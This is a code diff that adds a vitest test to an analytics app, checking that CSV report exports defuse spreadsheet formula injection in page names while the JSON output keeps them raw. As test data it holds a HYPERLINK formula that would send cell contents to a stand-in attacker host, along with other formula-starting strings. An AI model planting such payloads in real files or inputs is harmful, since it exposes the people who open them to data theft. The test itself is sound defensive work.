@@ -1,6 +1,6 @@
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import type { LiftoffApp } from "../createApp.ts";
-import { ORG_ID, ORIGIN, post, testApp } from "../edge/testApp.ts";
+import { ORG_ID, ORIGIN, pageView, post, testApp } from "../edge/testApp.ts";
 import { expectedReports, reportEvents } from "../storage/storeContract.ts";
 import { REPORT_NAMES, REPORTS } from "./reportDefinitions.ts";
 
@@ -134,6 +134,27 @@ describe("GET /api/reports/:report", () => {
     expect(res.body).toBe(
       'page,pageViews,visitors\r\n"Quotes ""and"", commas\r\nand lines",1,1\r\n',
     );
+  });
+
+  it("answers a page name the public edge received as text a spreadsheet will not run", async () => {
+    // Anyone can send a page view to the edge; the analyst opens the export in a spreadsheet.
+    const formula = '=HYPERLINK("https://evil.test/?"&A1,"Click")';
+    const sent = await post(app, "v1/interact", {
+      events: [pageView(formula), pageView("@SUM(1+1)"), pageView("-1+2"), pageView("pc:home")],
+    });
+    expect(sent.statusCode).toBe(200);
+    const res = await app.inject({ url: "/api/reports/topPages?format=csv" });
+    expect(res.statusCode).toBe(200);
+    const records = res.body.split("\r\n");
+    expect(records).toContain(`"'=HYPERLINK(""https://evil.test/?""&A1,""Click"")",1,1`);
+    expect(records).toContain("'@SUM(1+1),1,1");
+    expect(records).toContain("'-1+2,1,1");
+    expect(records).toContain("pc:home,1,1");
+    // No record of the file starts a formula, quoted or not.
+    for (const record of records) expect(record).not.toMatch(/^"?[=+\-@\t\r]/);
+    // The JSON answer keeps the name as the page sent it.
+    const json = await app.inject({ url: "/api/reports/topPages" });
+    expect(json.json<{ rows: unknown[][] }>().rows).toContainEqual([formula, 1, 1]);
   });
 
   it.each(["xml", "CSV", ""])("answers format=%s with 400 naming format", async (format) => {
